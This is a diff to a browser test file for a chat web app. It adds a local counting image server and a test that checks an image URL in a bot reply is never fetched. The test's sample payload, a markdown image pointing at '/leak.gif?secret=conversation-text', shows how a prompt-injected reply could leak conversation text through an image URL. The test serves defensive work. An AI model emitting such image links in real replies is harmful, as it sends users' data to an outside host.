@@ -4,14 +4,16 @@ from __future__ import annotations
 
 import os
 import shutil
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
 from playwright.sync_api import Page, expect, sync_playwright
 
 from devtools.processes import ServerProcess
-from tests.chat.stack import GEMINI_API, REPLY, ROOT
+from tests.chat.stack import ECHO, GEMINI_API, REPLY, ROOT
 
 CHROMIUM = "/usr/bin/chromium"
 SCREENSHOT = ROOT / "docs" / "chat-screenshot.png"
@@ -96,3 +98,70 @@ def test_chat_in_a_real_browser(
     page.screenshot(path=str(shot))
     if not SCREENSHOT.exists() or os.environ.get("UPDATE_CHAT_SCREENSHOT") == "1":
         shutil.copyfile(shot, SCREENSHOT)
+
+
+class ImageHost:
+    """Another origin serving a 1x1 image, counting every request: where a leak would go."""
+
+    def __init__(self) -> None:
+        self.requests: list[str] = []
+        host = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, format: str, *args: object) -> None:
+                return
+
+            def do_GET(self) -> None:
+                host.requests.append(self.path)
+                gif = bytes.fromhex(
+                    "47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b"
+                )
+                self.send_response(200)
+                self.send_header("Content-Type", "image/gif")
+                self.send_header("Content-Length", str(len(gif)))
+                self.end_headers()
+                self.wfile.write(gif)
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self._server.serve_forever, daemon=True).start()
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self._server.server_address[1]}"
+
+    def stop(self) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+
+@pytest.mark.browser
+def test_an_external_image_in_a_reply_is_never_requested(
+    page: Page, chat_app: ServerProcess
+) -> None:
+    host = ImageHost()
+    try:
+        # A prompt-injected reply would hide data in an image URL; the echo model repeats it.
+        leak = f"{host.url}/leak.gif?secret=conversation-text"
+        # The image host works: a page of its own origin may load it.
+        page.goto(leak)
+        assert host.requests == ["/leak.gif?secret=conversation-text"]
+        host.requests.clear()
+
+        open_app(page, chat_app.url)
+        page.get_by_role("combobox", name="Model", exact=True).click()
+        page.get_by_role("option", name=ECHO).click()
+        box = page.get_by_placeholder("Ask anything…")
+        box.fill(f"Show this: ![status]({leak})")
+        box.press("Enter")
+        # The reply renders the image element; the browser settles it (blocked) without a fetch.
+        page.wait_for_function(
+            "(url) => { const imgs = [...document.querySelectorAll('.message.bot img')]"
+            ".filter(i => i.getAttribute('src') === url);"
+            " return imgs.length > 0 && imgs.every(i => i.complete); }",
+            arg=leak,
+            timeout=60_000,
+        )
+        assert page.locator(".message.bot img").count() >= 1
+        assert host.requests == [], f"the browser fetched {host.requests}"
+    finally:
+        host.stop()
